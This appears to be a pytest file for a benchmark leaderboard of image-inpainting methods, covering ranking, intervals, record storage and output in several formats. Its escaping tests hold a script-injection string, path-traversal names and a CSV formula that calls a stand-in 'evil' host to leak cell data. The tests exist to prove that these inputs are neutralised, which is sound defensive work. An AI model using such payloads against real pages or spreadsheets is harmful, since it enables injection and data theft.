"""Records, ranking, tables, plot: by hand-made summaries whose order is known."""

from __future__ import annotations

import copy
import csv
import io
import json
import random
import re
import xml.etree.ElementTree as ET
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from synthetic_records import TOTAL, board_of, record, run_of, score, sections_of, summary_of

from benchmark.board.leaderboard import leaderboard
from benchmark.board.markup import escape_html, escape_latex, markdown
from benchmark.board.plot import Point, Range, log_ticks_of, pareto, plot, shown_range, ticks_of
from benchmark.board.ranking import ranks_of, sections, spans_of
from benchmark.board.records import add_record, key_of, read_record, safe_name
from benchmark.board.reported import reported
from benchmark.board.tables import csv_of, parting, rank_text, seconds, tables_of
from benchmark.statistics import median_interval
from olrd.errors import IntegrityError, OutputError, SourceError
from olrd.storage.files import to_json
from olrd.trust import escape_markdown

HOSTILE = 'a<b>|c&d_e%"$#{}\\~^`*[x](y)</td><script>alert(1)</script>'


def order(records: list[dict[str, Any]]) -> list[tuple[int | None, str]]:
    (section,) = sections_of(*records)
    return [(row.rank, row.method) for row in section.ranked]


def test_ranking_by_hand() -> None:
    records = [record("a", 20.0), record("b", 25.0), record("c", 20.0), record("d", 5.0)]
    assert order(records) == [(1, "b"), (2, "a"), (2, "c"), (4, "d")]


def seen(name: str, psnr: float, lpips: float, half: float = 0.01, **changes: Any) -> dict[str, Any]:
    """A record whose PSNR and LPIPS in the mask say different things."""
    made = record(name, psnr, **changes)
    made["scores"]["lpips-alex/mask/raw"] = score(lpips, half)
    return made


def test_rows_are_ranked_by_the_eye_and_a_column_says_where_psnr_differs() -> None:
    # The order of the public set: PSNR puts blur first, which no one would choose.
    smooth, sharp, middle = seen("smooth", 24.2, 0.42), seen("sharp", 23.8, 0.17), seen("middle", 23.9, 0.30)
    blur = seen("blur-fill", 24.3, 0.44, method__control=True)
    (section,) = sections_of(smooth, sharp, middle, blur)
    assert section.first.name == "lpips-alex/mask/raw" and not section.first.higher_is_better
    assert [(row.rank, row.method, row.by_pixels) for row in section.ranked] == [
        (1, "sharp", 3),
        (2, "middle", 2),
        (3, "smooth", 1),
        (None, "blur-fill", None),
    ]
    table = tables_of(section)[0]
    at = table.head.index("by PSNR")
    assert table.head[at - 1] == "psnr/mask/raw, dB ↑"
    assert [f"{row[at].main} {row[at].small}".strip() for row in table.rows] == ["3 ↓ 2", "2", "1 ↑ 2", "-"]
    assert parting(section) == "PSNR and the eye part: sharp is 1 here and 3 by PSNR, smooth is 3 here and 1 by PSNR."


def test_the_protocols_first_metric_ranks_if_none_sees_what_people_see() -> None:
    records = [record(name, p, protocol__metrics=["psnr", "fid"]) for name, p in (("a", 20.0), ("b", 25.0))]
    assert order(records) == [(1, "b"), (2, "a")]
    (section,) = sections_of(*records)
    assert section.pixels is None and "by PSNR" not in tables_of(section)[0].head and parting(section) == ""


def test_spans_against_the_plain_loop() -> None:
    generator = np.random.Generator(np.random.Philox(1))
    for _ in range(20):
        lows = generator.uniform(0, 1, 6)
        intervals = [(low, low + width) for low, width in zip(lows, generator.uniform(0, 0.4, 6), strict=True)]
        for one, span in zip(intervals, spans_of(intervals), strict=True):
            better = [other for other in intervals if other[0] > one[1]]
            worse = [other for other in intervals if other[1] < one[0]]
            assert span == (1 + len(better), 6 - len(worse))
    assert ranks_of([0.5, None, 0.5, 0.9]) == [2, None, 2, 1]


def test_the_rank_says_what_the_intervals_leave_open() -> None:
    (section,) = sections_of(seen("a", 20, 0.1), seen("b", 21, 0.30), seen("c", 22, 0.31), seen("d", 23, 0.9))
    assert [row.span for row in section.ranked] == [(1, 1), (2, 3), (2, 3), (4, 4)]
    assert [(t.main, t.small) for t in map(rank_text, section.ranked)] == [
        ("1", ""),
        ("2", "(2-3)"),
        ("3", "(2-3)"),
        ("4", ""),
    ]
    without = seen("e", 20, 0.2)
    without["scores"]["lpips-alex/mask/raw"] |= {"low": None, "high": None}
    (section,) = sections_of(without, seen("a", 20, 0.1))
    assert [row.span for row in section.ranked] == [(1, 2), (1, 2)]  # no interval: any rank


def test_intervals_of_an_earlier_version_stand_in_a_table_of_their_own() -> None:
    earlier, now = record("a"), record("b", intervals="jackknife")
    old, new = sorted(sections_of(now, earlier), key=lambda section: section.intervals)
    assert [row.method for row in (*old.ranked, *new.ranked)] == ["a", "b"]
    page = markdown([old, new], "plot.svg")
    assert page.count("intervals of an earlier version (percentile bootstrap, too short)") == 1
    same = summary_of(record("a", intervals="jackknife"))
    assert key_of(same) != key_of(summary_of(earlier))
    with pytest.raises(IntegrityError, match="intervals is 'exact', this version knows jackknife, bootstrap"):
        summary_of(record("a", intervals="exact"))


def test_too_few_photos_are_said_where_the_interval_would_stand() -> None:
    few = record("a", intervals="jackknife")
    few["scores"]["psnr/mask/raw"] |= {"low": None, "high": None, "clusters": 6, "no_interval": "too_few_photos"}
    few["sets"]["fid/raw"] |= {"low": None, "high": None, "clusters": 6, "no_interval": "too_few_photos"}
    (section,) = sections_of(few)
    table = tables_of(section)[0]
    texts = {head: cell.small for head, cell in zip(table.head, table.rows[0], strict=True)}
    assert texts["psnr/mask/raw, dB ↑"] == "too few photos (6)"
    assert texts["fid/raw ↓"] == "too few photos (6), n=10"
    row = next(csv.DictReader(io.StringIO(csv_of([section]))))
    assert (row["psnr/mask/raw low"], row["psnr/mask/raw no_interval"]) == ("", "too few photos (6)")
    assert "too few photos (6)" in markdown([section], "plot.svg")


def test_what_equals_the_truth_is_first_and_controls_stand_between_the_rows_unranked() -> None:
    records = [
        record("good", 90.0),
        record("ceiling", None, method__control=True),
        record("perfect", None),
        record("fill", 50.0, method__control=True),
        record("poor", 10.0),
    ]
    assert order(records) == [(1, "perfect"), (None, "ceiling"), (2, "good"), (None, "fill"), (3, "poor")]
    (section,) = sections_of(*records)
    table = tables_of(section)[0]
    assert [row[3].main for row in table.rows] == ["no", "yes", "no", "yes", "no"]
    psnr = table.head.index("psnr/mask/raw, dB ↑")
    assert table.rows[0][psnr].main == "= truth" and table.rows[0][psnr + 1].main == "1"
    # The best method is bold, controls never are.
    assert [row[psnr].best for row in table.rows] == [True, False, False, False, False]


def test_pages_mark_controls_and_keep_long_settings_out_of_the_table(tmp_path: Path) -> None:
    settings = {"steps": "12", "prompt": "short"}
    board = board_of(
        tmp_path,
        record("a", 20.0, method__options=settings),
        record("b", 19.0, method__options={"seed": "1"}),
        record("b", 18.0, method__options={"seed": "2"}),
        record("c", 15.0, method__control=True),
    )
    leaderboard(board)
    text = (board / "toy.md").read_text()
    assert "| - | *c* control | 1 |" in text and "| a | 1 |" in text
    assert "- **a**: prompt=short, steps=12" in text
    assert "b seed=1" in text and "b seed=2" in text  # nothing else tells them apart
    assert r"\textit{c} {\scriptsize control}" in (board / "toy.tex").read_text()
    assert "c <i>control</i>" in (board / "toy.html").read_text()
    rows = list(csv.DictReader(io.StringIO((board / "toy.csv").read_text())))
    assert [(row["rank"], row["control"]) for row in rows] == [("1", "no"), ("2", "no"), ("3", "no"), ("", "yes")]
    assert [row["rank_by_psnr"] for row in rows] == ["1", "2", "3", ""]


@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf")])
def test_a_score_that_is_no_number_is_not_ranked(value: float) -> None:
    odd = summary_of(record("odd"))
    scores = dict(odd.scores)
    scores["lpips-alex/mask/raw"] = replace(scores["lpips-alex/mask/raw"], mean=value)
    (section,) = sections([replace(odd, scores=scores), summary_of(record("a"))])
    assert [row.method for row in section.ranked] == ["a"]
    assert section.partial[0].why == f"lpips-alex/mask/raw is {value}"


def test_partial_runs_are_listed_and_not_ranked() -> None:
    records = [
        record("whole", 10.0),
        record("failed", 30.0, n=9, n_failed=1),
        record("cut", 30.0, n=4, dataset__n=4),
        record("limit", 30.0, request__limit=10),
        record("blind", 30.0),
    ]
    records[-1]["scores"]["lpips-alex/mask/raw"] = score(None, failed=TOTAL)
    (section,) = sections_of(*records)
    assert [row.method for row in section.ranked] == ["whole"]
    assert {row.method: row.why for row in section.partial} == {
        "failed": "1 failed; 9 of 10 samples",
        "cut": "4 of 10 samples",
        "limit": "run with limit 10",
        "blind": "no lpips-alex/mask/raw: 10 failed",
    }


@pytest.mark.parametrize(
    "change", [{"protocol__id": "p-2-beef"}, {"dataset__fingerprint": "beef"}, {"metrics__psnr__revision": "2"}]
)
def test_different_protocols_data_or_metrics_are_never_ranked_together(change: dict[str, Any], tmp_path: Path) -> None:
    records = [record("a", 20.0), record("b", 30.0, **change)]
    found = sections_of(*records)
    assert [[(r.rank, r.method) for r in s.ranked] for s in found] in (
        [[(1, "a")], [(1, "b")]],
        [[(1, "b")], [(1, "a")]],
    )
    board = board_of(tmp_path, *records)
    leaderboard(board)
    rows = list(csv.DictReader(io.StringIO((board / "toy.csv").read_text())))
    assert sorted((row["method"], row["rank"]) for row in rows) == [("a", "1"), ("b", "1")]
    keys = ("protocol", "fingerprint", "metric_revisions")
    assert len({tuple(row[k] for k in keys) for row in rows}) == 2
    assert (board / "toy.md").read_text().count("### Ranked by") == 2


def test_the_latest_revisions_stand_first() -> None:
    old, new = record("a"), record("a", metrics__psnr__revision="2")
    other = record("a", protocol__id="a-1-cafe")
    found = [(s.protocol, s.definitions["psnr"][0]) for s in sections_of(old, new, other)]
    assert found == [("a-1-cafe", "1"), ("p-1-cafe", "2"), ("p-1-cafe", "1")]


def test_columns_and_cells(tmp_path: Path) -> None:
    summary = record("a", 20.0)
    summary["scores"]["psnr/mask/raw"] = score(20.0, same=3, empty_region=2)
    (section,) = sections_of(summary)
    assert [c.name for c in section.main] == ["lpips-alex/mask/raw", "psnr/mask/raw", "fid/raw", "change/outside/raw"]
    assert [c.name for c in section.further] == [
        "lpips-alex/ring/raw",
        "lpips-alex/full/composited",
        "psnr/ring/raw",
        "psnr/full/composited",
        "fid/composited",
    ]
    line = tables_of(section)[0].rows[0]
    texts = [f"{text.main} {text.small}".strip() for text in line]
    assert texts == [
        "1",
        "a",
        "1",
        "no",
        "0.0500 (0.0400 to 0.0600)",
        "20.00 (19.50 to 20.50), n=5, 3 more = truth",
        "1",
        "31.50 n=10",
        "0.00 (0.00 to 0.00)",
        "10",
        "0",
        "0.5000 (0.4000 to 0.6000), cpu",
    ]


def test_same_records_same_bytes_whatever_their_order(tmp_path: Path) -> None:
    records = [record(f"m{k}", 20.0 + k % 3) for k in range(5)]
    records += [record("m0", 22.0, protocol__id="q"), record("x", 3.0, n_failed=1, n=9)]
    one = board_of(tmp_path / "one", *records)
    random.Random(1).shuffle(records)
    other = board_of(tmp_path / "other", *records)
    first = {p.relative_to(one): p.read_bytes() for p in leaderboard(one)}
    assert first == {p.relative_to(other): p.read_bytes() for p in leaderboard(other)}
    assert sorted(map(str, first)) == ["reported.md", "toy.csv", "toy.html", "toy.md", "toy.svg", "toy.tex"]
    leaderboard(one)
    assert {p.relative_to(one): p.read_bytes() for p in leaderboard(one)} == first


def test_records_are_append_only(tmp_path: Path) -> None:
    summary = record("a", 20.0)
    path = add_record(run_of(summary, tmp_path / "1"), tmp_path / "board")
    assert path.parent == tmp_path / "board" / "results" / "toy" / "p-1-cafe" / "a"
    assert path.name.startswith("1-") and path.suffix == ".json"
    before = path.read_bytes()
    slower = copy.deepcopy(summary) | {"git": "def", "times": {"median_seconds": 9.0}}
    assert add_record(run_of(slower, tmp_path / "2"), tmp_path / "board") == path
    assert path.read_bytes() == before  # the first times stay
    elsewhere = copy.deepcopy(summary)
    elsewhere["scores"]["psnr/mask/raw"]["mean"] += 1e-5  # what another processor may give
    assert add_record(run_of(elsewhere, tmp_path / "4"), tmp_path / "board") == path
    assert path.read_bytes() == before
    for changed in ({"mean": 20.001}, {"n": 11}, {"without": {"failed: E: no": 1}}):
        other = copy.deepcopy(summary)
        other["scores"]["psnr/mask/raw"] |= changed
        with pytest.raises(OutputError, match="psnr/mask/raw"):
            add_record(run_of(other, tmp_path / "5"), tmp_path / "board")
    summary["scores"]["psnr/mask/raw"]["mean"] = 21.0
    with pytest.raises(OutputError, match=r"psnr/mask/raw: 20.0, now 21.0.*another revision"):
        add_record(run_of(summary, tmp_path / "3"), tmp_path / "board")
    assert path.read_bytes() == before


def test_another_claim_is_another_record(tmp_path: Path) -> None:
    changes: list[dict[str, Any]] = [
        {},
        {"method__revision": "2"},
        {"method__options": {"steps": "9"}},
        {"seed": 7},
        {"dataset__fingerprint": "b"},
        {"method__device": "cuda"},
        {"n": 9, "n_failed": 1},
        {"metrics__fid__revision": "2"},
    ]
    made = [record("a", 20.0, **change) for change in changes]
    assert len({key_of(summary_of(r)) for r in made}) == len(made)
    board = board_of(tmp_path, *made)
    assert len(list((board / "results").rglob("*.json"))) == len(made)
    (shown,) = (s for s in sections_of(*made[:1], *made[2:4]))
    assert [row.settings for row in shown.ranked] == ["", "seed=7", "steps=9"]


def test_paths_of_this_machine_stay_here(tmp_path: Path) -> None:
    summary = record(
        "a",
        method__options={"weights": "/home/me/nets/big.pt", "url": "https://a.b/c/d"},
        request__protocol="/anywhere/x/P.json",
        n_failed=2,
        n=8,
        failures={"E: /home/me/a.png is bad": 1, "E: /srv/a.png is bad": 1},
    )
    stored = read_record(add_record(run_of(summary, tmp_path / "run"), tmp_path / "board"))
    assert stored.method.options == {"weights": "big.pt", "url": "https://a.b/c/d"}
    assert stored.request.protocol == "P.json"
    assert stored.failures == {"E: a.png is bad": 2}


@pytest.mark.parametrize("name", ["..", "../../etc", "", "a/b", ".hidden", "x" * 400, "é/\0"])
def test_names_cannot_leave_the_board(name: str, tmp_path: Path) -> None:
    board = tmp_path / "board"
    path = add_record(run_of(record(name, method__revision=name, dataset__name=name), tmp_path / "run"), board)
    assert path.resolve().is_relative_to((board / "results").resolve())
    assert len(path.relative_to(board).parts) == 5
    written = leaderboard(board)
    assert all(p.parent == board for p in written) and len(written) == 6
    assert not any(p.name.startswith(".") for p in board.rglob("*"))


@pytest.mark.slow
@given(st.text(max_size=80))
def test_safe_name_is_one_visible_part(text: str) -> None:
    name = safe_name(text)
    assert name and not name.startswith(".") and not set(name) & set('/\\\0:*?"<>| ')


def test_a_dataset_called_reported_does_not_take_the_papers_page(tmp_path: Path) -> None:
    board = board_of(tmp_path, record("a", dataset__name="reported"))
    assert len(set(leaderboard(board))) == 6
    assert (board / "reported.md").read_text() == reported()


@pytest.mark.parametrize(
    ("text", "match"),
    [
        ('{"format": 0}', "format 0.*run `benchmark run` again"),
        ('{"format": 2}', "newer version"),
        ("{}", "format None"),
        ("[]", "expected an object"),
        ("{", "is not valid JSON"),
        ('{"format": 1, "method": {"name": "a"}}', "lacks protocol.id"),
        (json.dumps(record("a", method={"name": "a"})), "lacks method.revision"),
        (json.dumps(record("a", n="ten")), "n is 'ten', expected a whole number"),
        (json.dumps(record("a", method__control=1)), "method.control is '1', expected true or false"),
        (json.dumps(record("a", dataset__warnings=[1])), r"dataset.warnings\[0\] is '1', expected a text"),
        (json.dumps(record("a", protocol__ring=-1)), "protocol .*whole numbers of at least 0"),
        (json.dumps(record("a", metrics={})), "lacks metrics.psnr"),
    ],
)
def test_records_that_cannot_be_read_are_named_and_nothing_is_written(text: str, match: str, tmp_path: Path) -> None:
    board = board_of(tmp_path, record("a"))
    bad = board / "results" / "toy" / "p-1-cafe" / "a" / "z.json"
    bad.write_text(text)
    with pytest.raises(IntegrityError, match=match) as caught:
        leaderboard(board)
    assert str(bad) in str(caught.value)
    assert not (board / "toy.md").exists()


def test_an_empty_board_says_how_to_fill_it(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="no records"):
        leaderboard(tmp_path)


class Cells(HTMLParser):
    """The tags of a page, and the text of each table cell's first line."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.cells: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "td":
            self.cells.append("")

    def handle_data(self, data: str) -> None:
        if self.cells:
            self.cells[-1] += data


def test_names_cannot_become_markup(tmp_path: Path) -> None:
    def made(text: str, folder: Path) -> Path:
        board = board_of(
            folder,
            record(
                text,
                method__revision=text,
                method__options={"o": text},
                dataset__warnings=[text],
                protocol__id=text,
                metrics__psnr__definition=text,
            ),
            record("z", 1.0, protocol__id=text, dataset__warnings=[text], metrics__psnr__definition=text),
        )
        leaderboard(board)
        return board

    hostile, plain = made(HOSTILE, tmp_path / "h"), made("plain", tmp_path / "p")
    page, clean = (Cells((board / "toy.html").read_text()) for board in (hostile, plain))
    assert page.tags == clean.tags
    assert page.tags.count("script") == 2  # the page's own, and its data
    assert page.cells[1] == HOSTILE + "o=" + HOSTILE
    (data,) = re.findall(r'<script type="application/json">(.*?)</script>', (hostile / "toy.html").read_text())
    assert HOSTILE in [row["name"] for row in json.loads(data)["rows"]]
    tree = ET.fromstring((hostile / "toy.svg").read_text())
    assert HOSTILE[:20] in "".join(tree.itertext())
    for board in (hostile, plain):
        lines = (board / "toy.md").read_text().splitlines()
        widths = {line.replace("\\|", "").count("|") for line in lines if line.startswith("| ")}
        assert widths == {12, 9}
    markdown = (hostile / "toy.md").read_text()
    assert "<script" not in markdown and r"a&lt;b&gt;\|c&amp;d\_e" in markdown
    latex = (hostile / "toy.tex").read_text()
    assert r"a\textless{}b\textgreater{}\textbar{}c\&d\_e\%" in latex
    rows = list(csv.DictReader(io.StringIO((hostile / "toy.csv").read_text())))
    assert rows[0]["method"] == HOSTILE


def test_escapes_by_hand() -> None:
    assert escape_markdown("a|b_c<d&e\nf") == r"a\|b\_c&lt;d&amp;e f"
    assert escape_latex("a_b&c<d|e%") == r"a\_b\&c\textless{}d\textbar{}e\%"
    assert escape_latex("\\{") == r"\textbackslash{}\{"
    assert escape_html("<a b='c'>&") == "&lt;a b=&#x27;c&#x27;&gt;&amp;"


def test_warnings_stand_above_the_table(tmp_path: Path) -> None:
    board = board_of(tmp_path, record("a", dataset__warnings=["doing nothing scores best"]))
    leaderboard(board)
    for suffix in ("md", "html"):
        text = (board / f"toy.{suffix}").read_text()
        assert 0 < text.index("doing nothing scores best") < text.index("Ranked by")
    assert "doing nothing scores best" in (board / "toy.tex").read_text()


def test_csv_holds_the_numbers_in_full(tmp_path: Path) -> None:
    board = board_of(tmp_path, record("a", 20.123456789012345), record("t", None))
    leaderboard(board)
    rows = list(csv.DictReader(io.StringIO((board / "toy.csv").read_text())))
    assert float(rows[1]["psnr/mask/raw value"]) == 20.123456789012345
    assert rows[0]["psnr/mask/raw value"] == "" and rows[0]["psnr/mask/raw identical"] == "10"
    assert rows[0]["fid/raw n"] == "10" and rows[0]["lpips-alex/ring/raw value"] == "0.0"


def test_what_must_be_said_of_a_set_score_stands_beside_it(tmp_path: Path) -> None:
    said = {"fid/raw": {"value": 31.5, "n": 9, "reason": "biased below n=2048; 1 failed: E: no"}}
    board = board_of(tmp_path, record("a", sets=said))
    leaderboard(board)
    for suffix in ("md", "html"):
        text = (board / f"toy.{suffix}").read_text()
        assert "n=9, biased below n=2048; 1 failed: E: no" in text


def test_the_plot_shows_what_is_ranked_and_says_what_it_leaves_out() -> None:
    only = {"protocol__metrics": ["psnr"]}
    made = [
        record("a", 20.0, **only),
        record("b", 30.0, times__median_seconds=40.0, **only),
        record("t", None, **only),
        record("cut", 9.0, n=3, **only),
        record("c", 20.0, method__control=True, **only),
        record("far", 2.0, method__control=True, **only),
    ]
    text = plot(sections_of(*made))
    tree = ET.fromstring(text)
    space = "{http://www.w3.org/2000/svg}"
    dots = tree.findall(f".//{space}circle")
    assert len(dots) == 3 and sum(d.get("fill") == "#fff" for d in dots) == 1
    words = "".join(tree.itertext())
    assert "= truth: t" in words and "1 partial run(s) not shown" in words
    assert "outside the plot: far (2)" in words  # a control does not stretch the axes
    # More seconds are farther right, a higher score is higher up.
    by_x = sorted(dots, key=lambda d: float(d.get("cx", "")))
    assert float(by_x[-1].get("cy", "")) == min(float(d.get("cy", "")) for d in dots)
    assert tree.find(f".//{space}polyline") is not None
    assert "no ranked run" in plot(sections_of(record("t", None, **only)))


@given(st.floats(-1e3, 1e3), st.floats(0, 1e3))
def test_an_axis_starts_where_the_data_is(low: float, span: float) -> None:
    shown = shown_range([low, low + span])
    assert shown.low < low <= low + span < shown.high
    if span > 1e-3:
        assert low - shown.low < 0.07 * span
    ticks = ticks_of(shown)
    assert 2 <= len(ticks) <= 9
    slack = 1e-6 * (shown.high - shown.low)
    assert shown.low - slack <= ticks[0] and ticks[-1] <= shown.high + slack


def test_ticks_of_time_by_hand() -> None:
    assert log_ticks_of(Range(-2.1, 0.5)) == pytest.approx([0.01, 0.1, 1])
    assert log_ticks_of(Range(-0.8, 0.4)) == pytest.approx([0.2, 0.5, 1, 2])


@pytest.mark.parametrize("higher", [True, False])
def test_the_front_against_the_plain_loop(higher: bool) -> None:
    generator = np.random.Generator(np.random.Philox(2))
    points = [Point(f"{k}", k % 5 == 0, *map(float, generator.integers(1, 9, 2)), 0, 0) for k in range(30)]
    methods = [p for p in points if not p.control]
    gain = {p.name: p.y if higher else -p.y for p in methods}
    beaten = {
        p.name
        for p in methods
        for q in methods
        if q.x <= p.x and gain[q.name] >= gain[p.name] and (q.x, q.y) != (p.x, p.y)
    }
    found = pareto(points, higher)
    assert {(p.x, p.y) for p in found} == {(p.x, p.y) for p in methods if p.name not in beaten}
    assert [p.x for p in found] == sorted(p.x for p in found)


def test_median_interval_by_hand() -> None:
    assert median_interval(pd.Series(range(9)), list("abcdefghi"), 100, 0) is None  # too few photos
    values = pd.Series([1.0, 2.0, 3.0, 4.0, None])
    assert median_interval(values, list("aabbb"), 0, 0, fewest=2) is None
    assert median_interval(values, list("aaaaa"), 100, 0, fewest=2) is None
    # Two photos: the medians can only be those of aa, ab and bb.
    assert median_interval(values, list("aabbb"), 2000, 0, fewest=2) == [1.5, 3.5]
    assert median_interval(pd.Series([None, None]), ["a", "b"], 10, 0, fewest=2) is None
    # Against the plain loop.
    generator = np.random.Generator(np.random.Philox(5))
    times, clusters = generator.exponential(1, 41), generator.integers(0, 12, 41)
    draws = np.random.Generator(np.random.Philox(3))
    names = np.unique(clusters)
    expected = [
        np.median(np.concatenate([times[clusters == names[k]] for k in draws.integers(0, len(names), len(names))]))
        for _ in range(300)
    ]
    found = median_interval(pd.Series(times), [f"{c:02}" for c in clusters], 300, 3)
    assert found == pytest.approx(np.quantile(expected, [0.025, 0.975]), abs=1e-6)


def test_seconds_read_well() -> None:
    assert [seconds(v) for v in (0.01234, 1.5, 12.34, 1234.5)] == ["0.0123", "1.50", "12.3", "1234"]


def test_the_papers_numbers_are_labelled_and_apart(tmp_path: Path) -> None:
    text = reported()
    assert text.startswith("# Reported by the paper, not measured here")
    assert "| MagicEraser | 28.123 | 0.947 | 0.032 | 30.02 |" in text
    assert "| Google Photos eraser | 20.310 |" in text
    ablation, realhm = text.split("## Ablation")[1], text.split("## RealHM")[1]
    assert "23.620 | 0.861 | 0.101 | 46.56" in ablation and "23.620 | 0.861" in realhm
    board = board_of(tmp_path, record("a"))
    leaderboard(board)
    for path in board.glob("toy.*"):
        assert "28.123" not in path.read_text()


def test_a_record_is_the_summary_as_it_was(tmp_path: Path) -> None:
    summary = record("a")
    path = add_record(run_of(summary, tmp_path / "run"), tmp_path / "board")
    stored = json.loads(path.read_text())
    low, high = stored["times"].pop("interval")
    assert 0.1 <= low < high <= 1.0
    summary["times"].pop("interval")
    assert to_json(stored) == to_json(summary)


def test_no_text_of_a_record_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    board = board_of(tmp_path, record("a", method__name=formula, method__revision="+1+1", method__options={"@o": "1"}))
    leaderboard(board)
    (row,) = csv.DictReader(io.StringIO((board / "toy.csv").read_text()))
    assert (row["method"], row["revision"], row["settings"]) == (f"'{formula}", "'+1+1", "'@o=1")
    assert row["psnr/mask/raw value"] == "20.0"


@pytest.mark.parametrize(
    "path",
    [
        "/home/a/My Docs/kept-secret/small",
        "file:///home/kept-secret/small",
        "C:\\Users\\kept-secret\\small",
        "text:/home/kept-secret/small",
    ],
)
def test_a_board_names_no_folder_of_this_machine(path: str, tmp_path: Path) -> None:
    board = board_of(
        tmp_path,
        record(
            "a",
            method__name=path,
            method__options={"model": path},
            dataset__warnings=[f"read from {path}"],
            failures={f"SourceError: {path} is missing": 1},
        ),
    )
    leaderboard(board)
    for file in board.rglob("*.*"):
        assert "kept-secret" not in str(file.relative_to(board)), file
        assert b"kept-secret" not in file.read_bytes(), file
